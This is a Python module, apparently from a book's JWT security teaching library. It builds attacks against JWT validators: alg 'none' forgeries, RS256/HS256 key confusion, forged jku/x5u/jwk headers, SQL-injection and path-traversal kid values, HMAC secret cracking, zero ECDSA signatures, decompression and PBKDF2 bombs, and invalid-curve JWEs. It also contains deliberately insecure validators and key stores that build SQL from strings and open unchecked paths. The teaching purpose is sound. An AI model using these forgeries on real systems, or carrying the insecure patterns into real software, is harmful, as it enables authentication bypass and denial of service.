"""Attacks on JWT validators, and DELIBERATELY INSECURE validators for them to succeed against (RFC 8725).

*******************************************************************************************************
DELIBERATELY INSECURE. :class:`NaiveValidator`, :class:`NaiveSqliteKeyStore`, :class:`NaiveFileKeyStore`,
:func:`naive_ecdsa_p256_verify`, :func:`naive_decrypt` and :func:`naive_pbes2_decrypt` reproduce
mistakes that real JWT libraries and services have shipped. They exist so that the book can show each
attack succeeding before joselab's validators refuse it. NEVER COPY THEM, never use them for anything
but this demonstration.
*******************************************************************************************************

What is here, by RFC 8725 section:

* attack builders: ``alg: none`` in every casing (§2.1, §3.1), RS256 → HS256 key confusion with the
  public key as the HMAC secret (§2.1, §3.1), a ``jwk`` / ``jku`` / ``x5u`` header that hands the
  verifier the attacker's key (§3.10), ``kid`` values built for SQL injection and path traversal
  (§2.9, §3.10), a dictionary attack on an HMAC secret (§2.2, §3.5), an ECDSA signature with
  r = s = 0 (CVE-2022-21449; §3.3, §3.4), a JWE decompression bomb (§3.6), a huge PBES2 ``p2c``
  (RFC 8725bis) and an ECDH-ES JWE whose ephemeral key is not on the curve (§2.5, §3.4);
* :class:`AttackerHost`, the attacker's own server on the demo :class:`~joselab.parties.Network`
  (127.0.0.1 like every party), serving the attacker's JWK Set and a self-signed certificate;
* :func:`build_confusion_matrix`: one valid token of each kind in the book (software statement,
  registration request, access token, ID token) fed to every scenario validator, with one key behind
  all of them (RFC 8725 §2.8, §3.12);
* :func:`measure`: time and peak memory (``tracemalloc``) of one call, to show that joselab's work
  on hostile input is bounded.
"""

from __future__ import annotations

import datetime
import hashlib
import hmac
import html
import itertools
import json
import os
import tempfile
import time
import tracemalloc
import zlib
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from functools import cache
from importlib import resources
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

from cryptography import x509
from cryptography.exceptions import InvalidSignature as _CryptoInvalidSignature
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.hazmat.primitives.keywrap import aes_key_unwrap
from cryptography.x509.oid import NameOID
from jwcrypto import jwe, jwk
from jwcrypto.jwa import JWA

from . import cast
from .access_token import AccessTokenValidator, AuthorizationServer, JwksCache
from .claims import audiences, with_changes
from .client_assertion import ClientAssertionValidator, assertion_form, sign_client_assertion
from .clock import DEMO_EPOCH, Clock, DemoIds, FixedClock, IdSource
from .compact import b64url_decode, b64url_encode, decode_unverified
from .dpop import DPOP_TYPE, DPoPProofValidator
from .errors import FetchError, InvalidAudience
from .id_token import ClientRegistration, IdTokenValidator, OpenIDProvider
from .jws import encode_claims, encode_header, sign_compact
from .keys import DemoKey, as_jwk, demo_key, load_jwks, public_jwks
from .parties import Database, LocalServer, Network, ReplayStore, Request, Response, json_response
from .registration import (
    DEMO_SOFTWARE,
    Client,
    Directory,
    RegistrationRequestValidator,
    SoftwareStatementValidator,
    TrustedDirectory,
)
from .trace import Check, Trace

__all__ = [
    "ATTACKER_HOST",
    "AUDIENCE_INJECTION_CVES",
    "EVIL_AS_HOST",
    "INTENDED",
    "NONE_CASINGS",
    "PSYCHIC_DER",
    "PSYCHIC_RAW",
    "TOKEN_KINDS",
    "VALIDATORS",
    "AssertionClient",
    "AttackerHost",
    "AudienceInjectionAS",
    "ConfusionMatrix",
    "CrackResult",
    "Measurement",
    "MixUpOP",
    "NaiveFileKeyStore",
    "NaiveResult",
    "NaiveSqliteKeyStore",
    "NaiveValidator",
    "OldAudienceRuleValidator",
    "build_confusion_matrix",
    "crack_hmac",
    "decompression_bomb",
    "deflated_zeros",
    "duplicate_member_payload",
    "forge",
    "forge_embedded_jwk",
    "forge_key_url",
    "forge_kid",
    "forge_psychic_signature",
    "forge_public_key_as_hmac_secret",
    "forge_unsigned",
    "invalid_curve_jwe",
    "load_wordlist",
    "measure",
    "naive_decrypt",
    "naive_ecdsa_p256_verify",
    "naive_pbes2_decrypt",
    "old_audience_rule",
    "pbes2_p2c_bomb",
    "resign",
    "self_signed_certificate",
]

ATTACKER_HOST = cast.ATTACKER_HOST

#: Every spelling of "none" that differs only in letter case: 2**4 of them.
NONE_CASINGS = tuple("".join(letters) for letters in itertools.product(*((c, c.upper()) for c in "none")))

_HASHES = {"256": hashlib.sha256, "384": hashlib.sha384, "512": hashlib.sha512}
_CRYPTO_HASHES = {"256": hashes.SHA256, "384": hashes.SHA384, "512": hashes.SHA512}


# ------------------------------------------------------------------------------------------------
# Token surgery: what an attacker does with a captured token
# ------------------------------------------------------------------------------------------------
def _captured(token: str) -> tuple[dict[str, Any], dict[str, Any]]:
    """Header and claims of a well-formed captured token (read, never verified: the attacker's view)."""
    seen = decode_unverified(token)
    if not isinstance(seen.payload, dict):
        raise ValueError("the captured token's payload is not a JSON object")
    return dict(seen.header), dict(seen.payload)


def _payload_bytes(payload: bytes | Mapping[str, Any]) -> bytes:
    return encode_claims(payload) if isinstance(payload, Mapping) else bytes(payload)


def forge(
    header: Mapping[str, Any],
    payload: bytes | Mapping[str, Any],
    *,
    key: jwk.JWK | None = None,
    secret: bytes | None = None,
    signature: bytes | None = None,
) -> str:
    """A compact JWS with any header, bypassing every refusal of :func:`joselab.sign_compact`.

    The signature is made with ``key`` (the JWA algorithm named by the header's ``alg``), or is an
    HMAC with the raw bytes ``secret`` (whatever their length), or is exactly ``signature``, or is
    empty (an unsecured JWT, RFC 7519 §6). The header is written ``alg`` first, as joselab does."""
    protected = encode_header(header)
    segment = b64url_encode(_payload_bytes(payload))
    signing_input = f"{protected}.{segment}".encode("ascii")
    alg = str(header.get("alg"))
    if key is not None:
        signature = JWA.signing_alg(alg).sign(key, signing_input)
    elif secret is not None:
        signature = hmac.new(secret, signing_input, _HASHES[alg[2:]]).digest()
    return f"{protected}.{segment}.{b64url_encode(signature or b'')}"


def resign(token: str, key: jwk.JWK, *, header: Mapping[str, Any] | None = None, **changes: Any) -> str:
    """The captured token with header members and claims changed (``None`` removes one), signed again
    with ``key``. With the issuer's own key this is what a lenient or buggy issuer could mint."""
    old_header, claims = _captured(token)
    return forge(with_changes(old_header, header or {}), with_changes(claims, changes), key=key)


def forge_unsigned(token: str, alg: str = "none", **changes: Any) -> str:
    """The captured token as an unsecured JWT: ``alg`` replaced (any casing of "none"), the other header
    members kept, claims changed, signature empty (RFC 7519 §6; RFC 8725 §2.1)."""
    header, claims = _captured(token)
    return forge({**header, "alg": alg}, with_changes(claims, changes))


def forge_public_key_as_hmac_secret(token: str, public_key: jwk.JWK, alg: str = "HS256", **changes: Any) -> str:
    """RS256 → HS256 key confusion (CVE-2015-9235, CVE-2016-10555): an HMAC whose secret is the verifier's *public*
    RSA key, as PEM text. A verifier that takes ``alg`` from the token and hands "its key" to HMAC
    computes the same MAC. Everything needed is public."""
    header, claims = _captured(token)
    pem = public_key.export_to_pem()  # SubjectPublicKeyInfo PEM: what such libraries are configured with
    return forge({**header, "alg": alg}, with_changes(claims, changes), secret=pem)


def forge_embedded_jwk(token: str, attacker_key: jwk.JWK, **changes: Any) -> str:
    """Sign with the attacker's key and put its public half in the ``jwk`` header (CVE-2018-0114)."""
    header, claims = _captured(token)
    public = attacker_key.export_public(as_dict=True)
    new = {**header, "kid": public.get("kid"), "jwk": public}
    return forge(new, with_changes(claims, changes), key=attacker_key)


def forge_key_url(token: str, attacker_key: jwk.JWK, *, member: str, url: str, **changes: Any) -> str:
    """Sign with the attacker's key and point ``jku`` (a JWK Set URL) or ``x5u`` (a certificate URL) at
    the attacker's server (RFC 7515 §4.1.2, §4.1.5; RFC 8725 §3.10)."""
    if member not in ("jku", "x5u"):
        raise ValueError("member is 'jku' or 'x5u'")
    header, claims = _captured(token)
    new = {**header, "kid": attacker_key.get("kid"), member: url}
    return forge(new, with_changes(claims, changes), key=attacker_key)


def forge_kid(token: str, kid: str, secret: bytes, alg: str = "HS256", **changes: Any) -> str:
    """An HMAC token whose ``kid`` is attacker-chosen text (an SQL fragment, a relative path) and whose
    MAC uses the ``secret`` the attacker expects that text to make a naive key store return."""
    header, claims = _captured(token)
    return forge({**header, "alg": alg, "kid": kid}, with_changes(claims, changes), secret=secret)


#: r = s = 0 as the 64-byte r || s of RFC 7518 §3.4, and as the 8-byte ASN.1 DER SEQUENCE that some
#: libraries transcode to (both were used against CVE-2022-21449).
PSYCHIC_RAW = bytes(64)
PSYCHIC_DER = bytes.fromhex("3006020100020100")


def forge_psychic_signature(token: str, *, der: bool = False, **changes: Any) -> str:
    """An ES256 token whose "signature" is r = s = 0: CVE-2022-21449, "psychic signatures" (Java 15-18
    skipped ECDSA's 1 <= r, s <= n-1 check, and r = s = 0 verified against every key and message)."""
    header, claims = _captured(token)
    return forge({**header, "alg": "ES256"}, with_changes(claims, changes), signature=PSYCHIC_DER if der else PSYCHIC_RAW)


def duplicate_member_payload(claims: Mapping[str, Any], name: str, second: Any) -> bytes:
    """The JSON text of ``claims`` with member ``name`` written a second time with value ``second``,
    as an issuer that builds JSON by pasting strings together could produce. RFC 8259 §4 leaves the
    meaning undefined; RFC 7519 §4 says to reject it or take the lexically last."""
    text = encode_claims(claims).decode("utf-8")
    extra = json.dumps({name: second}, separators=(",", ":"), ensure_ascii=False)[1:-1]
    return (text[:-1] + "," + extra + "}").encode("utf-8")


# ------------------------------------------------------------------------------------------------
# The dictionary attack on an HMAC secret (RFC 8725 §2.2, §3.5)
# ------------------------------------------------------------------------------------------------
@cache
def load_wordlist() -> tuple[str, ...]:
    """The book's short word list (``joselab/data/wordlist.txt``): common passwords, default secrets
    and everyday words, a few hundred of them."""
    text = resources.files("joselab.data").joinpath("wordlist.txt").read_text("utf-8")
    return tuple(line for line in text.splitlines() if line and not line.startswith("#"))


@dataclass(frozen=True)
class CrackResult:
    """What a dictionary attack found: the secret (None if no word fit) and how many words it tried."""

    secret: str | None
    tries: int

    def __str__(self) -> str:
        if self.secret is None:
            return f"no word fits, after {self.tries} tries"
        return f"secret found after {self.tries} tries: {self.secret!r}"


def crack_hmac(token: str, words: Iterable[str]) -> CrackResult:
    """Try each word as the HMAC secret of a captured HS256/384/512 token: offline, needing nothing but
    the token, at the speed of one HMAC per guess."""
    header_b64, payload_b64, signature_b64 = token.split(".")
    alg = str(decode_unverified(token).header.get("alg"))
    digest = _HASHES[alg[2:]]
    signing_input = f"{header_b64}.{payload_b64}".encode("ascii")
    tries = 0
    for word in words:
        tries += 1
        mac = hmac.new(word.encode("utf-8"), signing_input, digest).digest()
        if hmac.compare_digest(b64url_encode(mac), signature_b64):
            return CrackResult(word, tries)
    return CrackResult(None, tries)


# ------------------------------------------------------------------------------------------------
# JWE: a decompression bomb, and a PBES2 header asking for billions of iterations
# ------------------------------------------------------------------------------------------------
def decompression_bomb(
    recipient: jwk.JWK, size: int = 22 * 1024 * 1024, *, enc: str = "A256GCM", alg: str = "RSA-OAEP-256"
) -> str:
    """A compact JWE with ``zip: DEF`` whose plaintext is ``size`` zero bytes: about a thousand times
    smaller compressed (22 MiB fits in a 30 KB token). Anyone can encrypt to a public key, so anyone
    can send one; the recipient decompresses before any signature inside can be checked.

    Made with jwcrypto's algorithms, step by step (RFC 7516 §5.1), around a compressed plaintext
    built the way bombs are built (:func:`deflated_zeros`): nobody compresses 22 MiB to send one."""
    header: dict[str, Any] = {"alg": alg, "enc": enc, "zip": "DEF", "cty": "JWT"}
    keymgmt, cipher = JWA.keymgmt_alg(alg), JWA.encryption_alg(enc)
    wrapped = keymgmt.wrap(recipient, cipher.wrap_key_size, None, header)
    header.update(wrapped.get("header", {}))  # ECDH-ES: the ephemeral public key
    protected = b64url_encode(json.dumps(header, separators=(",", ":"), sort_keys=True).encode("utf-8"))
    deflated = deflated_zeros(size)
    iv, ciphertext, tag = cipher.encrypt(wrapped["cek"], protected.encode("ascii"), deflated)
    parts = (wrapped.get("ek", b""), iv, ciphertext, tag)
    return ".".join([protected, *(b64url_encode(part) for part in parts)])


def deflated_zeros(size: int, *, chunk: int = 1024 * 1024) -> bytes:
    """``size`` zero bytes compressed with DEFLATE, as ``"zip": "DEF"`` names it (RFC 7516 §4.1.3),
    without the zlib wrapper. One ``chunk`` is compressed and its blocks are repeated: after a full
    flush the compressor starts afresh, so every further chunk of zeros would compress to the same
    bytes. What inflates is exactly ``size`` zeros; building it costs one chunk, not ``size``."""
    whole, rest = divmod(size, chunk)
    compressor = zlib.compressobj(6, zlib.DEFLATED, -15)  # raw DEFLATE: negative window bits
    block = compressor.compress(bytes(chunk)) + compressor.flush(zlib.Z_FULL_FLUSH) if whole else b""
    return block * whole + compressor.compress(bytes(rest)) + compressor.flush(zlib.Z_FINISH)


def pbes2_p2c_bomb(p2c: int, *, alg: str = "PBES2-HS256+A128KW", enc: str = "A128GCM") -> str:
    """A compact JWE header announcing ``p2c`` PBKDF2 iterations (RFC 7518 §4.8.1.2), with filler for
    the other parts: the attacker does not know the password and does not need to. A recipient that
    derives the key before checking ``p2c`` does all that work first (CVE-2023-6681)."""
    header = {"alg": alg, "enc": enc, "p2s": b64url_encode(b"joselab-p2s-demo"), "p2c": p2c}
    filler = (bytes(24), bytes(12), bytes(16), bytes(16))  # wrapped CEK, IV, ciphertext, tag
    return ".".join([encode_header(header), *(b64url_encode(part) for part in filler)])


def invalid_curve_jwe(
    recipient: jwk.JWK | DemoKey, plaintext: bytes = b'{"probe":1}', *, alg: str = "ECDH-ES+A256KW", enc: str = "A256GCM"
) -> str:
    """A compact ECDH-ES JWE to ``recipient`` (an EC key) whose ``epk`` is not on the key's curve: its
    ``y`` is moved by one, so the point lies on another curve with the same ``a`` and a different
    ``b``. The ECDH formulas never use ``b``, so a recipient that does not check the point computes on
    that other curve; with points of small order there, the attacker learns the private key piece by
    piece from which probes decrypt (the invalid-curve attack, RFC 8725 §2.5; the defence is §3.4)."""
    key = as_jwk(recipient)
    public = jwk.JWK(**key.export_public(as_dict=True))
    token = jwe.JWE(plaintext, protected=json.dumps({"alg": alg, "enc": enc, "kid": public.get("kid")}))
    token.allowed_algs = [alg, enc]
    token.add_recipient(public)
    head, *rest = token.serialize(compact=True).split(".")
    header = json.loads(b64url_decode(head))
    epk = dict(header["epk"])
    y = b64url_decode(epk["y"])
    epk["y"] = b64url_encode(((int.from_bytes(y, "big") + 1) % (1 << (8 * len(y)))).to_bytes(len(y), "big"))
    return ".".join([encode_header({**header, "epk": epk}), *rest])


# ------------------------------------------------------------------------------------------------
# The attacker's server
# ------------------------------------------------------------------------------------------------
def self_signed_certificate(key: jwk.JWK, common_name: str, *, not_before: int = DEMO_EPOCH - 86_400) -> bytes:
    """A PEM X.509 certificate for ``key``, signed by ``key`` itself, claiming to be ``common_name``.
    Nothing vouches for it: that is the point (RFC 7515 §4.1.5 wants the certificate validated)."""
    private = key.get_op_key("sign")
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name)])
    start = datetime.datetime.fromtimestamp(not_before, datetime.UTC)
    builder = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(private.public_key())
        .serial_number(2026)  # fixed, like the dates: the same certificate on every run
        .not_valid_before(start)
        .not_valid_after(start + datetime.timedelta(days=365))
    )
    return builder.sign(private, hashes.SHA256()).public_bytes(serialization.Encoding.PEM)


class AttackerHost:
    """The attacker's own server, Mallory's ``https://evil.example`` (:data:`joselab.cast.ATTACKER_HOST`), on the demo network (so on 127.0.0.1,
    like every party): ``/jwks.json`` serves the attacker's public key as a JWK Set, ``/cert.pem`` a
    self-signed certificate for it that claims to be ``impersonates``."""

    def __init__(
        self, network: Network, key: DemoKey | jwk.JWK, *, host: str = ATTACKER_HOST, impersonates: str = "as.bank.example"
    ) -> None:
        self.key = as_jwk(key)
        self.server = LocalServer(host, network)
        self.server.serve_json("/jwks.json", public_jwks(self.key))
        pem = self_signed_certificate(self.key, impersonates)
        self.server.route("GET", "/cert.pem")(
            lambda _req: Response(200, pem, {"Content-Type": "application/pem-certificate-chain"})
        )

    @property
    def jwks_url(self) -> str:
        return self.server.url("/jwks.json")

    @property
    def cert_url(self) -> str:
        return self.server.url("/cert.pem")

    def start(self) -> AttackerHost:
        self.server.start()
        return self

    def stop(self) -> None:
        self.server.stop()

    def __repr__(self) -> str:
        return f"<AttackerHost {self.server.url()}: serves {self.jwks_url} and {self.cert_url}>"


# ------------------------------------------------------------------------------------------------
# DELIBERATELY INSECURE: the naive validators
# ------------------------------------------------------------------------------------------------
@dataclass(frozen=True)
class NaiveResult:
    """What a naive validator decided, and the path it took to decide it."""

    accepted: bool
    how: str
    claims: dict[str, Any] | None = None

    def __str__(self) -> str:
        verdict = "ACCEPTED" if self.accepted else "rejected"
        text = f"naive validator: {verdict} — {self.how}"
        if self.claims is not None:
            shown = json.dumps(self.claims, ensure_ascii=False)
            text += "\n  claims it now trusts: " + (shown if len(shown) <= 240 else shown[:237] + "...")
        return text

    def _repr_pretty_(self, printer, cycle) -> None:
        printer.text(str(self))


class NaiveSqliteKeyStore:
    """DELIBERATELY INSECURE: HMAC secrets by ``kid`` in sqlite, looked up with SQL built by string
    formatting. A ``kid`` of ``x' UNION SELECT 'anything`` makes it return ``anything`` (RFC 8725
    §3.10: "kid ... could be used in ... SQL ... injection attacks"). NEVER COPY THIS."""

    def __init__(self, db: Database) -> None:
        self.db = db
        db.execute("CREATE TABLE IF NOT EXISTS hmac_keys (kid TEXT PRIMARY KEY, secret BLOB NOT NULL)")

    def add(self, kid: str, secret: bytes) -> None:
        self.db.execute("INSERT OR REPLACE INTO hmac_keys VALUES (?, ?)", (kid, secret))

    def sql_for(self, kid: str) -> str:
        """The query it runs for ``kid``: the injection is visible in it."""
        return f"SELECT secret FROM hmac_keys WHERE kid = '{kid}'"  # the deliberate flaw: SQL built from kid

    def lookup(self, kid: str) -> bytes | None:
        rows = self.db.execute(self.sql_for(kid))
        if not rows:
            return None
        value = rows[0][0]
        return value.encode("utf-8") if isinstance(value, str) else bytes(value)


class NaiveFileKeyStore:
    """DELIBERATELY INSECURE: one file per ``kid`` in a directory, opened at ``directory/kid``. A ``kid``
    of ``../../../../dev/null`` opens an empty file that every system has: an HMAC key of zero bytes,
    which the attacker knows (RFC 8725 §3.10: path traversal). NEVER COPY THIS."""

    def __init__(self, directory: str | Path) -> None:
        self.directory = Path(directory)

    def add(self, kid: str, secret: bytes) -> None:
        (self.directory / kid).write_bytes(secret)

    def lookup(self, kid: str) -> bytes | None:
        try:
            with open(os.path.join(self.directory, kid), "rb") as handle:  # the deliberate flaw
                return handle.read(4096)
        except OSError:
            return None


# NIST P-256 (FIPS 186-4 §D.1.2.3; SEC 2 §2.4.2): y^2 = x^3 - 3x + b over GF(p), base point G of order n.
_P = 0xFFFFFFFF00000001000000000000000000000000FFFFFFFFFFFFFFFFFFFFFFFF
_B = 0x5AC635D8AA3A93E7B3EBBD55769886BC651D06B0CC53B0F63BCE3C3E27D2604B
_G = (
    0x6B17D1F2E12C4247F8BCE6E563A440F277037D812DEB33A0F4A13945D898C296,
    0x4FE342E2FE1A7F9B8EE7EB4A7C0F9E162BCE33576B315ECECBB6406837BF51F5,
)
_N = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551

_Point = tuple[int, int] | None  # None is the point at infinity


def _add(p1: _Point, p2: _Point) -> _Point:
    if p1 is None:
        return p2
    if p2 is None:
        return p1
    (x1, y1), (x2, y2) = p1, p2
    if x1 == x2 and (y1 + y2) % _P == 0:
        return None
    if p1 == p2:
        slope = (3 * x1 * x1 - 3) * pow(2 * y1, -1, _P) % _P
    else:
        slope = (y2 - y1) * pow(x2 - x1, -1, _P) % _P
    x3 = (slope * slope - x1 - x2) % _P
    return x3, (slope * (x1 - x3) - y1) % _P


def _multiply(k: int, point: _Point) -> _Point:
    result: _Point = None
    while k:
        if k & 1:
            result = _add(result, point)
        point = _add(point, point)
        k >>= 1
    return result


def naive_ecdsa_p256_verify(public_key: ec.EllipticCurvePublicKey, message: bytes, signature: bytes) -> bool:
    """DELIBERATELY INSECURE hand-rolled ES256 verification, as Java 15-18 had it (CVE-2022-21449).

    It checks the signature's *format* only (64 bytes r || s, or DER) and then runs the ECDSA
    equations of FIPS 186-5 §6.4.2, skipping step 1: "verify that r and s are in [1, n-1]". With
    r = s = 0 the inverse of s computed by Fermat's little theorem is 0, both scalars are 0, the sum
    is the point at infinity, its x is taken as 0, and 0 == r: every message "verifies" with every
    key. Real signatures verify too, which is why nobody noticed. NEVER COPY THIS."""
    if len(signature) == 64:
        r, s = int.from_bytes(signature[:32], "big"), int.from_bytes(signature[32:], "big")
    else:
        try:
            r, s = decode_dss_signature(signature)
        except ValueError:
            return False
    numbers = public_key.public_numbers()
    e = int.from_bytes(hashlib.sha256(message).digest(), "big")
    w = pow(s, _N - 2, _N)  # s^-1 by Fermat: 0 when s = 0, where a range check would have refused
    point = _add(_multiply(e * w % _N, _G), _multiply(r * w % _N, (numbers.x, numbers.y)))
    x = 0 if point is None else point[0]  # the point at infinity has no x; this code says 0
    return x % _N == r


def _lenient_b64(text: str) -> bytes:
    import base64

    # Padding added back and either alphabet accepted: what RFC 7515 §2 rules out (no padding, URL-safe only).
    return base64.urlsafe_b64decode(text.replace("+", "-").replace("/", "_") + "=" * (-len(text) % 4))


class NaiveValidator:
    """DELIBERATELY INSECURE. A JWT validator with the mistakes RFC 8725 §2 lists, each one seen in real
    libraries. NEVER COPY IT; it exists so that the book can show each attack succeed.

    * it takes ``alg`` from the token, and treats any casing of ``none`` as "nothing to verify"
      (RFC 8725 §2.1); ``block_exact_none=True`` adds the classic half-fix that refuses
      ``"none"`` spelled exactly so and lets the other fifteen casings through;
    * it uses whatever key the token offers: a ``jwk`` header (CVE-2018-0114), a ``jku`` JWK Set URL,
      an ``x5u`` certificate URL, fetched over ``network`` without asking whether it should (§3.10);
    * with a ``key_store`` it looks the ``kid`` up there, as text (SQL injection, path traversal: §3.10);
    * for ``HS*`` it feeds "the key" to HMAC whatever it is: the RSA public key's PEM text, for one
      (RS256 → HS256 confusion: CVE-2015-9235 in node's jsonwebtoken, CVE-2016-10555 in jwt-simple);
    * ECDSA is :func:`naive_ecdsa_p256_verify` (CVE-2022-21449);
    * it ignores ``crit``, ``typ``, ``iss`` and ``aud``; reads claims with ``json.loads`` (the last
      duplicate member wins); checks ``exp`` only when it is a number; sets no maximum lifetime.
    """

    def __init__(
        self,
        *,
        key: jwk.JWK | DemoKey | None = None,
        key_store: NaiveSqliteKeyStore | NaiveFileKeyStore | None = None,
        network: Network | None = None,
        clock: Clock,
        block_exact_none: bool = False,
    ) -> None:
        key = as_jwk(key)
        self.key = jwk.JWK(**key.export_public(as_dict=True)) if key is not None and key["kty"] != "oct" else key
        self.key_store = key_store
        self.network = network
        self.clock = clock
        self.block_exact_none = block_exact_none

    def __repr__(self) -> str:
        return "<NaiveValidator: DELIBERATELY INSECURE, never copy>"

    def validate(self, token: str) -> NaiveResult:
        try:
            header_b64, payload_b64, signature_b64 = token.split(".")
            header = json.loads(_lenient_b64(header_b64))
            signature = _lenient_b64(signature_b64)
            alg = str(header.get("alg"))
            if self.block_exact_none and alg == "none":
                return NaiveResult(False, 'alg "none" is on the blocklist')
            if alg.lower() == "none":
                how = f"alg {json.dumps(alg)}: an unsecured JWT, so there is no signature to check"
            else:
                key, source = self._key_for(header)
                if key is None:
                    return NaiveResult(False, f"no key for kid {header.get('kid')!r}")
                if not self._verify(alg, key, f"{header_b64}.{payload_b64}".encode("ascii"), signature):
                    return NaiveResult(False, f"{alg} signature does not verify with {source}")
                how = f"{alg} signature verifies with {source}"
            claims = json.loads(_lenient_b64(payload_b64))
        except Exception as exc:  # a naive validator fails closed on garbage, at least
            return NaiveResult(False, f"could not read the token ({type(exc).__name__})")
        exp = claims.get("exp")
        if isinstance(exp, (int, float)) and exp <= self.clock.now():
            return NaiveResult(False, "expired")
        return NaiveResult(True, how, claims)

    def _key_for(self, header: Mapping[str, Any]) -> tuple[Any, str]:
        if "jwk" in header:
            return jwk.JWK(**header["jwk"]), "the key in the token's own jwk header"
        if "jku" in header and self.network is not None:
            document = self.network.get_json(header["jku"])
            found = next((k for k in document["keys"] if k.get("kid") == header.get("kid")), document["keys"][0])
            return jwk.JWK(**found), f"the key the token's jku pointed to ({header['jku']})"
        if "x5u" in header and self.network is not None:
            pem = self.network.request("GET", header["x5u"]).body
            certificate = x509.load_pem_x509_certificate(pem)
            return certificate.public_key(), f"the certificate the token's x5u pointed to ({header['x5u']}), unchecked"
        if self.key_store is not None:
            kid = str(header.get("kid"))
            return self.key_store.lookup(kid), f"the secret the key store returned for kid {kid!r}"
        return self.key, "the configured key"

    @staticmethod
    def _verify(alg: str, key: Any, signing_input: bytes, signature: bytes) -> bool:
        public = key.get_op_key("verify") if isinstance(key, jwk.JWK) and key["kty"] != "oct" else key
        if alg[:2] == "HS" and alg[2:] in _HASHES:
            if isinstance(key, jwk.JWK) and key["kty"] == "oct":
                secret = jwk.base64url_decode(key["k"])
            elif isinstance(public, (rsa.RSAPublicKey, ec.EllipticCurvePublicKey)):
                # "A key is a key": the PEM text of a public key becomes an HMAC secret.
                secret = public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
            else:
                secret = bytes(key)
            mac = hmac.new(secret, signing_input, _HASHES[alg[2:]]).digest()
            return hmac.compare_digest(mac, signature)
        if alg[:2] == "RS" and alg[2:] in _HASHES and isinstance(public, rsa.RSAPublicKey):
            try:
                public.verify(signature, signing_input, padding.PKCS1v15(), _CRYPTO_HASHES[alg[2:]]())
                return True
            except _CryptoInvalidSignature:
                return False
        if alg == "ES256" and isinstance(public, ec.EllipticCurvePublicKey):
            return naive_ecdsa_p256_verify(public, signing_input, signature)
        return False


def naive_decrypt(token: str, key: jwk.JWK | DemoKey) -> NaiveResult:
    """DELIBERATELY INSECURE: jwcrypto's plain API with its defaults, ``JWE().deserialize(token, key)``.
    jwcrypto 1.6.1 honours ``zip: DEF`` and inflates up to 100 MB by default; joselab refuses
    ``zip`` altogether (RFC 8725 §3.6) and caps plaintext at 256 KiB. NEVER COPY THIS."""
    key = as_jwk(key)
    obj = jwe.JWE()
    try:
        obj.deserialize(token, key=key)
    except Exception as exc:
        return NaiveResult(False, f"could not decrypt ({type(exc).__name__})")
    size = len(obj.payload)
    return NaiveResult(True, f"decrypted and inflated {size:,} bytes of plaintext", None)


_PBES2 = {"PBES2-HS256+A128KW": ("sha256", 16), "PBES2-HS384+A192KW": ("sha384", 24), "PBES2-HS512+A256KW": ("sha512", 32)}


def naive_pbes2_decrypt(token: str, password: bytes) -> NaiveResult:
    """DELIBERATELY INSECURE hand-rolled PBES2 (RFC 7518 §4.8): it derives the key-encryption key with
    the ``p2c`` the token asks for, however large, before anything can tell it the token is junk.
    (jwcrypto itself caps ``p2c`` at 16,384 since CVE-2023-6681; this is what came before.)
    NEVER COPY THIS."""
    try:
        parts = token.split(".")
        header = json.loads(_lenient_b64(parts[0]))
        hash_name, size = _PBES2[header["alg"]]
        p2c = int(header["p2c"])
        salt = header["alg"].encode("utf-8") + b"\x00" + _lenient_b64(header["p2s"])
        kek = hashlib.pbkdf2_hmac(hash_name, password, salt, p2c, size)
    except Exception as exc:
        return NaiveResult(False, f"could not read the token ({type(exc).__name__})")
    try:
        cek = aes_key_unwrap(kek, _lenient_b64(parts[1]))
        iv, ciphertext, tag = (_lenient_b64(p) for p in parts[2:5])
        plaintext = JWA.encryption_alg(header["enc"]).decrypt(cek, parts[0].encode("ascii"), iv, ciphertext, tag)
    except Exception:
        return NaiveResult(False, f"ran {p2c:,} PBKDF2 iterations first, then found the key does not unwrap")
    return NaiveResult(True, f"ran {p2c:,} PBKDF2 iterations, decrypted {len(plaintext):,} bytes")


# ------------------------------------------------------------------------------------------------
# Bounded work, measured
# ------------------------------------------------------------------------------------------------
@dataclass
class Measurement:
    """The result of one call, how long it took and the peak memory Python allocated during it."""

    result: Any
    seconds: float
    peak_bytes: int

    @property
    def ms(self) -> str:
        """The duration as ``12.34 ms`` (the book prints timings in this form)."""
        return f"{self.seconds * 1000:.2f} ms"

    def peak_under(self, limit_bytes: int) -> bool:
        return self.peak_bytes < limit_bytes


def measure(fn: Callable[[], Any]) -> Measurement:
    """Call ``fn`` once under ``tracemalloc``; return its result, the wall time and the peak of memory
    allocated by Python during the call (above what was allocated before it)."""
    started = not tracemalloc.is_tracing()
    if started:
        tracemalloc.start()
    tracemalloc.reset_peak()
    baseline = tracemalloc.get_traced_memory()[0]
    t0 = time.perf_counter()
    try:
        result = fn()
    finally:
        seconds = time.perf_counter() - t0
        peak = tracemalloc.get_traced_memory()[1] - baseline
        if started:
            tracemalloc.stop()
    return Measurement(result, seconds, max(peak, 0))


# ------------------------------------------------------------------------------------------------
# Cross-JWT confusion (RFC 8725 §2.8, §3.12)
# ------------------------------------------------------------------------------------------------
TOKEN_KINDS = (
    "software statement",
    "registration request",
    "access token",
    "ID token",
    "DPoP proof",
    "client assertion",
)
VALIDATORS = (
    "SoftwareStatementValidator",
    "RegistrationRequestValidator",
    "AccessTokenValidator",
    "IdTokenValidator",
    "DPoPProofValidator",
    "ClientAssertionValidator",
)
#: Which validator each kind of token is meant for: the matrix's diagonal.
INTENDED = dict(zip(TOKEN_KINDS, VALIDATORS, strict=True))

_PASS = "rgba(46, 160, 67, 0.15)"
_FAIL = "rgba(248, 81, 73, 0.22)"


@dataclass
class ConfusionMatrix:
    """Every token fed to every validator: ``traces[(kind, validator)]``. Only the diagonal should accept."""

    tokens: dict[str, str]
    traces: dict[tuple[str, str], Trace]
    key_note: str = ""
    notes: dict[str, str] = field(default_factory=dict)

    def trace(self, kind: str, validator: str) -> Trace:
